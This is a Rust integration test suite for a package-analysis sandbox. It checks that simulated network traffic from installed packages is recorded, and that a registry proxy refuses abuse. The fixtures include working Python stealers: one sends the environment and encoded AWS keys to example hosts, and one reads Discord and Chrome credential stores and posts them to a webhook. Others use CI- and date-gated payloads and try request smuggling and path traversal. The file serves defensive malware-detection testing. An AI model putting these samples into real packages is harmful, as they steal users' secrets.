//! The simulated internet, end to end with the real runsc and the real
//! image: a package's DNS lookups, HTTP, TLS and UDP land on Paddock's
//! internet host and are recorded; a bait in the traffic is proof of
//! exfiltration; hard-coded addresses fail fast and no packet reaches the
//! host's own interfaces; the registry proxy refuses what is not a registry
//! request; and nothing is left behind.
#![allow(clippy::disallowed_methods)]

mod common;

use std::io::Read;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use paddock_dynamic::{DynamicAnalyzer, PhaseName};
use paddock_proto::v1::{
    AnalysisStatus, DynamicResult, Ecosystem, PackageRef, PhaseResult, Severity, SocketOp,
};

async fn run(a: &DynamicAnalyzer, dir: &std::path::Path, name: &str, setup: &str) -> DynamicResult {
    common::analyse_sdist(a, dir, name, setup, &[]).await
}

async fn install_only(dir: &std::path::Path, worker: &str) -> DynamicAnalyzer {
    let mut config = common::config(dir, &common::worker(worker));
    config.phases = vec![PhaseName::Install];
    config.install_timeout = Duration::from_secs(120);
    common::analyzer(config).await
}

fn install(result: &DynamicResult) -> &PhaseResult {
    &result.phases[0]
}

fn stdout(p: &PhaseResult) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&p.stdout_tail),
        String::from_utf8_lossy(&p.stderr_tail)
    )
}

/// Every IPv4 packet on the host's own interfaces (the test's network
/// namespace), captured while `f` runs.
struct HostCapture {
    stop: Arc<AtomicBool>,
    seen: Arc<Mutex<Vec<(Ipv4Addr, Ipv4Addr)>>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl HostCapture {
    fn start() -> Self {
        let socket = socket2::Socket::new(
            socket2::Domain::PACKET,
            socket2::Type::DGRAM,
            Some(socket2::Protocol::from(i32::from(0x0800u16.to_be()))),
        )
        .expect("a packet socket (the tests run as root)");
        socket
            .set_read_timeout(Some(Duration::from_millis(100)))
            .unwrap();
        let stop = Arc::new(AtomicBool::new(false));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (s, v) = (stop.clone(), seen.clone());
        let thread = std::thread::spawn(move || {
            let mut socket = &socket;
            let mut buf = vec![0u8; 65536];
            while !s.load(Ordering::Relaxed) {
                if let Ok(n) = socket.read(&mut buf) {
                    if n >= 20 && buf[0] >> 4 == 4 {
                        let src = Ipv4Addr::new(buf[12], buf[13], buf[14], buf[15]);
                        let dst = Ipv4Addr::new(buf[16], buf[17], buf[18], buf[19]);
                        v.lock().unwrap().push((src, dst));
                    }
                }
            }
        });
        Self {
            stop,
            seen,
            thread: Some(thread),
        }
    }

    fn finish(mut self) -> Vec<(Ipv4Addr, Ipv4Addr)> {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.take().unwrap().join().unwrap();
        std::mem::take(&mut *self.seen.lock().unwrap())
    }
}

#[tokio::test]
async fn a_package_that_posts_the_environment_is_caught_with_its_dns_socket_request_and_bait() {
    let dir = tempfile::tempdir().unwrap();
    let a = install_only(dir.path(), "exfil").await;
    let setup = r#"import json, os, socket, urllib.request
host = "telemetry-" + "collector.example"
addr = socket.gethostbyname(host)
print("resolved", host, addr)
body = json.dumps(dict(os.environ)).encode()
req = urllib.request.Request("http://%s/v1/upload?src=setup" % host, data=body, method="POST",
                             headers={"Content-Type": "application/json"})
try:
    print("status", urllib.request.urlopen(req, timeout=10).status)
except Exception as e:
    print("post failed", e)
# The same secret again, base64-encoded inside a DNS name.
import base64
key = base64.b32encode(os.environ["AWS_ACCESS_KEY_ID"].encode()).decode().lower().rstrip("=")
try:
    socket.gethostbyname(key[:40] + ".t.example")
except OSError as e:
    print("dns", e)
from setuptools import setup
setup(name="exfil", version="1.0.0")
"#;
    let result = run(&a, dir.path(), "exfil", setup).await;
    let phase = install(&result);
    let out = stdout(phase);
    assert_eq!(
        phase.status,
        AnalysisStatus::Completed as i32,
        "{out}\n{result:#?}"
    );

    let q = phase
        .dns
        .iter()
        .find(|q| q.hostname == "telemetry-collector.example")
        .unwrap_or_else(|| panic!("{:#?}", phase.dns));
    assert!(q.answered && q.types.contains(&"A".to_owned()), "{q:?}");
    let addr = &q.answers[0];

    let socket = phase
        .sockets
        .iter()
        .find(|s| s.op == SocketOp::Connect as i32 && &s.address == addr && s.port == 80)
        .unwrap_or_else(|| panic!("{:#?}", phase.sockets));
    assert_eq!(socket.hostnames, vec!["telemetry-collector.example"]);

    let post = phase
        .http_requests
        .iter()
        .find(|r| r.method == "POST")
        .unwrap_or_else(|| panic!("{:#?}", phase.http_requests));
    assert_eq!(post.path, "/v1/upload?src=setup");
    assert_eq!(post.host, "telemetry-collector.example");
    assert_eq!(post.hostname, "telemetry-collector.example");
    assert_eq!(post.via, "catch-all");
    assert_eq!(post.response_status, 200);
    assert!(post.body_size > 100);
    assert_eq!(post.body_sha256.len(), 64);

    let finding = result
        .findings
        .iter()
        .find(|f| f.rule_id == "exfiltration.bait-in-traffic")
        .unwrap_or_else(|| panic!("{:#?}", result.findings));
    assert_eq!(finding.severity, Severity::Critical as i32);
    let named: Vec<&str> = finding.evidence.iter().map(|e| e.file.as_str()).collect();
    assert!(named.contains(&"env:AWS_SECRET_ACCESS_KEY"), "{named:?}");
    assert!(
        finding
            .evidence
            .iter()
            .any(|e| e.file == "env:AWS_ACCESS_KEY_ID" && e.snippet.contains("DNS")),
        "the key in a DNS name: {:#?}",
        finding.evidence
    );
}

#[tokio::test]
async fn tls_sni_udp_and_hard_coded_addresses() {
    let dir = tempfile::tempdir().unwrap();
    let a = install_only(dir.path(), "tls").await;
    let setup = r#"import socket, ssl, time
try:
    raw = socket.create_connection(("updates.example", 443), timeout=10)
    ctx = ssl.create_default_context()
    ctx.set_alpn_protocols(["h2", "http/1.1"])
    ctx.wrap_socket(raw, server_hostname="updates.example")
except Exception as e:
    print("tls", type(e).__name__)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"beacon-payload", (socket.gethostbyname("beacon.example"), 5353))
t = time.monotonic()
try:
    socket.create_connection(("203.0.113.7", 80), timeout=60)
except OSError as e:
    print("direct", e.errno, round(time.monotonic() - t, 3))
from setuptools import setup
setup(name="tls", version="1.0.0")
"#;
    let capture = HostCapture::start();
    let result = run(&a, dir.path(), "tls", setup).await;
    let packets = capture.finish();
    let phase = install(&result);
    let out = stdout(phase);
    assert_eq!(phase.status, AnalysisStatus::Completed as i32, "{out}");

    let hello = phase
        .tls
        .iter()
        .find(|t| t.sni == "updates.example")
        .unwrap_or_else(|| panic!("{:#?}\n{out}", phase.tls));
    assert_eq!(hello.alpn, vec!["h2", "http/1.1"]);
    assert_eq!(hello.port, 443);
    assert_eq!(hello.hostname, "updates.example");
    // The system store trusts the analysis's authority: the handshake
    // completes (and the client then sent nothing).
    assert!(hello.intercepted, "{hello:?}\n{out}");
    assert!(!out.contains("tls SSL"), "{out}");
    assert!(phase
        .connections
        .iter()
        .any(|c| c.protocol == "https" && c.hostname == "updates.example"));

    let d = phase
        .datagrams
        .iter()
        .find(|d| d.port == 5353)
        .unwrap_or_else(|| panic!("{:#?}", phase.datagrams));
    assert_eq!(d.head, b"beacon-payload");
    assert_eq!(d.hostname, "beacon.example");

    // Recorded, refused at once (no route), and never on the wire.
    let direct = phase
        .sockets
        .iter()
        .find(|s| s.address == "203.0.113.7" && s.op == SocketOp::Connect as i32)
        .unwrap_or_else(|| panic!("{:#?}", phase.sockets));
    assert_eq!(direct.error, "EHOSTUNREACH");
    // pip runs setup.py twice (metadata, then the wheel) and hides its
    // output; with a 60 s connect timeout the phase would take minutes if
    // the attempt hung.
    let took = phase.duration.unwrap().seconds;
    assert!(took < 50, "the install took {took} s");
    let outside = |a: &Ipv4Addr| {
        a.octets() == [203, 0, 113, 7]
            || (a.octets()[0] == 10 && matches!(a.octets()[1], 231 | 232))
    };
    let leaked: Vec<_> = packets
        .iter()
        .filter(|(s, d)| outside(s) || outside(d))
        .collect();
    assert!(leaked.is_empty(), "packets on the host: {leaked:?}");
}

/// A query for a name with bytes outside printable ASCII (and a `.` inside
/// a label) is seen twice, in the trace's `sendto` and by the resolver,
/// and recorded once, in the one escaped form both use.
#[tokio::test]
async fn an_odd_byte_dns_name_is_recorded_once_in_one_escaped_form() {
    let dir = tempfile::tempdir().unwrap();
    let a = install_only(dir.path(), "odd-dns").await;
    let setup = r#"import socket
server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
labels = [b"Odd\xff.dot", b"example"]
question = b"".join(bytes([len(l)]) + l for l in labels) + b"\0" + b"\0\1\0\1"
query = b"\x12\x34\x01\x00\0\1\0\0\0\0\0\0" + question
import os
# pip runs setup.py twice: ask once.
if not os.path.exists("/tmp/odd-dns-asked"):
    open("/tmp/odd-dns-asked", "w").close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    u.sendto(query, (server, 53))
    try:
        print("answered", len(u.recv(512)))
    except OSError as e:
        print("no answer", e)
from setuptools import setup
setup(name="odd-dns", version="1.0.0")
"#;
    let result = run(&a, dir.path(), "odd-dns", setup).await;
    let phase = install(&result);
    let out = stdout(phase);
    assert_eq!(phase.status, AnalysisStatus::Completed as i32, "{out}");
    let odd: Vec<_> = phase
        .dns
        .iter()
        .filter(|q| q.hostname.ends_with("dot.example"))
        .collect();
    assert_eq!(odd.len(), 1, "{:#?}", phase.dns);
    assert_eq!(odd[0].hostname, r"odd\255\046dot.example");
    // The resolver saw it too (a name only in the trace is unanswered).
    assert!(odd[0].answered, "{:#?}\n{out}", odd[0]);
}

#[tokio::test]
async fn the_tls_authority_is_trusted_inside_and_its_key_is_nowhere() {
    let dir = tempfile::tempdir().unwrap();
    let mut config = common::config(dir.path(), &common::worker("cakey"));
    config.phases = vec![PhaseName::Install, PhaseName::Import];
    let a = common::analyzer(config).await;
    // At import (where the output is kept): everything the analysis puts
    // in the sandbox, and the environment, searched for a private key of
    // the authority's kind (PKCS#8 P-256, DER or base64); the image's own
    // files are the image's.
    let scan = r#"import os, ssl
der = bytes.fromhex("308187020100301306072a8648ce3d020106082a8648ce3d030107")
# Joined at run time, so that this file does not hold what it looks for.
b64 = "".join(["MIGHAgEAMBMG", "ByqGSM49AgEGCCqGSM49AwEH"]).encode()
found, scanned = [], 0
for top in ["/opt", "/etc", "/root", "/app", "/artifact", "/tmp", "/var", "/run", "/dev/shm"]:
    for root, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(root, name)
            try:
                with open(path, "rb") as f:
                    data = f.read(8 << 20)
            except OSError:
                continue
            scanned += 1
            if der in data or b64 in data:
                found.append(path)
for k, v in os.environ.items():
    if b64.decode() in v:
        found.append("env:" + k)
print("scanned", scanned, "found", found)
print("ca", open("/opt/paddock-tls/ca.pem").read().count("BEGIN CERTIFICATE"))
print("system", "Paddock analysis CA" in str([c.get("subject") for c in ssl.create_default_context().get_ca_certs()]))
print("env", os.environ.get("NODE_EXTRA_CA_CERTS"), os.environ.get("SSL_CERT_FILE"))
"#;
    let setup =
        "from setuptools import setup\nsetup(name='cakey', version='1.0.0', packages=['cakey'])\n";
    let result = common::analyse_sdist(
        &a,
        dir.path(),
        "cakey",
        setup,
        &[("cakey/__init__.py", scan)],
    )
    .await;
    let phase = &result.phases[1];
    let out = stdout(phase);
    assert_eq!(phase.status, AnalysisStatus::Completed as i32, "{out}");
    let scanned: usize = out
        .split("scanned ")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{out}"));
    assert!(scanned > 100, "the scan read the sandbox's files: {out}");
    assert!(out.contains("found []"), "{out}");
    assert!(out.contains("ca 1"), "{out}");
    assert!(out.contains("system True"), "{out}");
    assert!(
        out.contains("env /opt/paddock-tls/ca.pem /opt/paddock-tls/ca-bundle.pem"),
        "{out}"
    );
    let bytes = prost::Message::encode_to_vec(&result);
    assert!(!common::holds_a_p256_key(&bytes));
}

/// Analyses a PyPI package whose import runs `init`, with the install and
/// import phases (and so the gated rerun).
async fn gated(dir: &std::path::Path, name: &str, init: &str) -> DynamicResult {
    let mut config = common::config(dir, &common::worker(name));
    config.phases = vec![PhaseName::Install, PhaseName::Import];
    let a = common::analyzer(config).await;
    let setup = format!(
        "from setuptools import setup\nsetup(name='{name}', version='1.0.0', packages=['{name}'])\n"
    );
    common::analyse_sdist(
        &a,
        dir,
        name,
        &setup,
        &[(&format!("{name}/__init__.py"), init)],
    )
    .await
}

fn gated_evidence(r: &DynamicResult) -> Vec<String> {
    r.findings
        .iter()
        .filter(|f| f.rule_id == "dynamic.environment-gated")
        .flat_map(|f| f.evidence.iter().map(|e| e.detail.clone()))
        .collect()
}

#[tokio::test]
async fn payloads_gated_on_ci_or_a_later_date_show_in_the_gated_rerun() {
    let dir = tempfile::tempdir().unwrap();
    // Acts only in CI.
    let ci = r#"import os, urllib.request
if os.environ.get("CI") == "true" and os.environ.get("GITHUB_ACTIONS"):
    try:
        urllib.request.urlopen("http://ci-only.collector.example/x", timeout=5).read()
    except Exception:
        pass
"#;
    let r = gated(dir.path(), "cigate", ci).await;
    assert_eq!(
        r.status,
        AnalysisStatus::Completed as i32,
        "{}",
        r.status_detail
    );
    let variants: Vec<&str> = r.phases.iter().map(|p| p.variant.as_str()).collect();
    assert_eq!(variants, ["", "", "gated"]);
    assert!(!r.phases[1]
        .dns
        .iter()
        .any(|q| q.hostname.contains("ci-only")));
    assert!(r.phases[2]
        .dns
        .iter()
        .any(|q| q.hostname == "ci-only.collector.example"));
    let evidence = gated_evidence(&r);
    assert!(
        evidence
            .iter()
            .any(|e| e.contains("ci-only.collector.example")),
        "{evidence:?}\n{:#?}",
        r.findings
    );
    let f = r
        .findings
        .iter()
        .find(|f| f.rule_id == "dynamic.environment-gated")
        .unwrap();
    assert!(f.severity >= Severity::Medium as i32);
    let mut report = String::new();
    paddock_dynamic::report::write_phases(&mut report, &r.phases);
    assert!(
        report.contains("import again, with CI variables set and the clock +400d ahead: completed"),
        "{report}"
    );

    // Acts only after a date: about 200 days from now, inside the rerun's
    // 400.
    let later = chrono_free_date_in(200);
    let date = format!(
        r#"import datetime, subprocess
if datetime.date.today() > datetime.date({later}):
    subprocess.run(["sh", "-c", "echo late > /tmp/after-the-date"])
"#
    );
    let r = gated(dir.path(), "dategate", &date).await;
    assert_eq!(
        r.status,
        AnalysisStatus::Completed as i32,
        "{}",
        r.status_detail
    );
    let evidence = gated_evidence(&r);
    assert!(
        evidence.iter().any(|e| e.contains("after-the-date")),
        "{evidence:?}\n{:#?}",
        r.phases[2].commands
    );

    // An honest package does the same in both runs: no finding.
    let r = gated(
        dir.path(),
        "nogate",
        "import json\nVALUE = json.dumps([1])\n",
    )
    .await;
    assert_eq!(
        r.status,
        AnalysisStatus::Completed as i32,
        "{}",
        r.status_detail
    );
    assert!(gated_evidence(&r).is_empty(), "{:#?}", r.findings);
}

#[tokio::test]
async fn a_token_stealer_reading_the_discord_store_is_proven_over_https() {
    let dir = tempfile::tempdir().unwrap();
    let init = r#"import glob, os, urllib.request
found = []
for pattern in ["~/.config/discord/Local Storage/leveldb/*.ldb", "~/.config/google-chrome/Default/Login Data"]:
    for path in glob.glob(os.path.expanduser(pattern)):
        with open(path, "rb") as f:
            found.append(f.read())
req = urllib.request.Request("https://hooks.collector.example/api/webhooks/1", data=b"\n".join(found), method="POST")
try:
    urllib.request.urlopen(req, timeout=10).read()
except Exception as e:
    print("post failed", e)
"#;
    let r = gated(dir.path(), "tokengrab", init).await;
    assert_eq!(
        r.status,
        AnalysisStatus::Completed as i32,
        "{}",
        r.status_detail
    );
    let import = &r.phases[1];
    let baits: Vec<(&str, &str)> = import
        .bait_accesses
        .iter()
        .map(|b| (b.bait.as_str(), b.how.as_str()))
        .collect();
    for store in [
        "file:/root/.config/discord/Local Storage/leveldb/000005.ldb",
        "file:/root/.config/google-chrome/Default/Login Data",
    ] {
        assert!(baits.contains(&(store, "read")), "{baits:?}");
        assert!(baits.contains(&(store, "exfiltrated")), "{baits:?}");
    }
    let rules: Vec<(&str, i32)> = r
        .findings
        .iter()
        .map(|f| (f.rule_id.as_str(), f.severity))
        .collect();
    assert!(
        rules.contains(&("exfiltration.bait-in-traffic", Severity::Critical as i32)),
        "{rules:?}"
    );
    assert!(
        rules.contains(&("dynamic.secret-read-and-network", Severity::Critical as i32)),
        "{rules:?}"
    );
    let mut report = String::new();
    paddock_dynamic::report::write_phases(&mut report, &r.phases);
    assert!(report.contains("secret stores touched"), "{report}");
    assert!(
        report.contains("/root/.config/discord/Local Storage/leveldb/000005.ldb"),
        "{report}"
    );
    assert!(
        report.contains("POST https://hooks.collector.example/api/webhooks/1"),
        "{report}"
    );
}

/// `year, month, day` of the date `days` from today (UTC), for Python.
fn chrono_free_date_in(days: u64) -> String {
    let secs = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + days * 86_400;
    // Civil from days (Howard Hinnant's algorithm).
    let z = (secs / 86_400) as i64 + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!("{y}, {m}, {d}")
}

#[tokio::test]
async fn the_registry_proxy_refuses_what_is_not_a_registry_request() {
    let dir = tempfile::tempdir().unwrap();
    let a = install_only(dir.path(), "abuse").await;
    let setup = r#"import socket
PROXY = ("10.231.0.1", 3141)
def send(raw):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(raw)
    try:
        print(s.recv(200).split(b"\r\n")[0].decode())
    except OSError as e:
        print("recv", e)
    s.close()
send(b"GET http://exfil.example/steal HTTP/1.1\r\nHost: exfil.example\r\n\r\n")
send(b"CONNECT exfil.example:443 HTTP/1.1\r\nHost: exfil.example:443\r\n\r\n")
send(b"GET /npm/" + b"a" * 5000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
send(b"POST /npm/left-pad HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n")
send(b"GET /pypi/files/00000000000000000000000000000000/x.whl HTTP/1.1\r\nHost: x\r\n\r\n")
send(b"GET /npm/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n")
from setuptools import setup
setup(name="abuse", version="1.0.0")
"#;
    let result = run(&a, dir.path(), "abuse", setup).await;
    let phase = install(&result);
    let out = stdout(phase);
    assert_eq!(phase.status, AnalysisStatus::Completed as i32, "{out}");
    let refused: Vec<(&str, u32, &str)> = phase
        .http_requests
        .iter()
        .filter(|r| r.via == "registry-proxy")
        .map(|r| (r.path.as_str(), r.response_status, r.refused.as_str()))
        .collect();
    // pip runs setup.py twice: every attempt is made (and refused) twice.
    assert_eq!(refused.len(), 12, "{refused:#?}\n{out}");
    assert!(
        refused
            .iter()
            .all(|(_, status, why)| *status >= 400 && !why.is_empty()),
        "{refused:#?}"
    );
    let why = |needle: &str| refused.iter().any(|(_, _, w)| w.contains(needle));
    assert!(why("not a registry request"), "{refused:#?}");
    assert!(why("request target of"), "{refused:#?}");
    assert!(why("smuggl") || why("Transfer-Encoding"), "{refused:#?}");
    assert!(why("not a download the proxy handed out"), "{refused:#?}");
    assert!(why("outside the registry"), "{refused:#?}");
    let statuses: Vec<u32> = refused.iter().map(|(_, s, _)| *s).collect();
    for status in [400, 403, 405, 414] {
        assert!(statuses.contains(&status), "{statuses:?}");
    }
}

#[tokio::test]
async fn nothing_is_left_behind_after_an_analysis_or_a_cancelled_one() {
    let dir = tempfile::tempdir().unwrap();
    let worker = common::worker("leftovers");
    let mut config = common::config(dir.path(), &worker);
    config.phases = vec![PhaseName::Install];
    let a = common::analyzer(config).await;
    let ours = || paddock_testkit::leftovers::namespaces_with(&worker);
    let setup = r#"import socket
socket.gethostbyname("a.example")
from setuptools import setup
setup(name="quick", version="1.0.0")
"#;
    let result = run(&a, dir.path(), "quick", setup).await;
    assert_eq!(install(&result).status, AnalysisStatus::Completed as i32);
    assert!(ours().is_empty(), "{:?}", ours());

    // Cancelled while the package sleeps: the namespaces (and with them
    // every veth) go with the dropped analysis.
    let slow = r#"import socket, time
socket.gethostbyname("b.example")
time.sleep(60)
"#;
    let analysis = run(&a, dir.path(), "slow", slow);
    let cancelled = tokio::time::timeout(Duration::from_secs(15), analysis).await;
    assert!(cancelled.is_err());
    // The dropped analysis's clean-up runs on a blocking thread, not on
    // the runtime: give it a moment.
    for _ in 0..100 {
        if ours().is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(ours().is_empty(), "{:?}", ours());
}

/// Each ecosystem's client, inside the sandbox, installs a package with
/// dependencies through the registry proxy (forwarding to the fixture
/// registry), and the result lists what it fetched.
async fn installs_dependencies_through_the_proxy(eco: Ecosystem, root: &str) {
    use paddock_testkit::packages::{build, dependency_tree};
    use paddock_testkit::registry::FixtureRegistry;
    let tree = dependency_tree(eco, root, 6);
    let registry = FixtureRegistry::with_packages(tree.clone()).await;
    let dir = tempfile::tempdir().unwrap();
    let mut config = common::config(dir.path(), &common::worker(&format!("deps{}", eco as i32)));
    config.phases = vec![PhaseName::Install, PhaseName::Import];
    config.install_timeout = Duration::from_secs(300);
    let a = common::analyzer(config)
        .await
        .with_registries(registry.registries_config());
    let built = build(&tree[0]);
    let artifact = dir.path().join(&built.filename);
    std::fs::write(&artifact, &built.bytes).unwrap();
    let package = PackageRef {
        ecosystem: eco as i32,
        name: tree[0].name.clone(),
        version: tree[0].version.clone(),
    };
    let result = a.analyze(&package, &artifact).await;
    let phase = install(&result);
    assert_eq!(
        phase.status,
        AnalysisStatus::Completed as i32,
        "{}\n{:#?}",
        stdout(phase),
        phase.http_requests
    );
    assert_eq!(
        result.status,
        AnalysisStatus::Completed as i32,
        "{}",
        result.status_detail
    );
    let norm = |n: &str| n.replace('_', "-").to_lowercase();
    let mut fetched: Vec<String> = phase
        .fetched_packages
        .iter()
        .map(|f| norm(&f.package.as_ref().unwrap().name))
        .collect();
    fetched.sort();
    fetched.dedup();
    let mut wanted: Vec<String> = tree[1..].iter().map(|p| norm(&p.name)).collect();
    wanted.sort();
    assert_eq!(fetched, wanted);
    assert!(phase
        .fetched_packages
        .iter()
        .all(|f| f.url.starts_with(&registry.origin()) && f.sha256.len() == 64));
    assert!(
        phase.http_requests.iter().all(|r| r.refused.is_empty()),
        "{:#?}",
        phase.http_requests
    );
    assert!(result.findings.is_empty(), "{:#?}", result.findings);
}

#[tokio::test]
async fn npm_installs_dependencies_through_the_proxy() {
    installs_dependencies_through_the_proxy(Ecosystem::Npm, "deptree").await;
}

#[tokio::test]
async fn pip_installs_dependencies_through_the_proxy() {
    installs_dependencies_through_the_proxy(Ecosystem::Pypi, "deptree").await;
}

#[tokio::test]
async fn gem_installs_dependencies_through_the_proxy() {
    installs_dependencies_through_the_proxy(Ecosystem::Rubygems, "deptree").await;
}

#[tokio::test]
async fn composer_installs_dependencies_through_the_proxy() {
    installs_dependencies_through_the_proxy(Ecosystem::Packagist, "paddock/deptree").await;
}

#[tokio::test]
async fn cargo_installs_dependencies_through_the_proxy() {
    installs_dependencies_through_the_proxy(Ecosystem::CratesIo, "deptree").await;
}
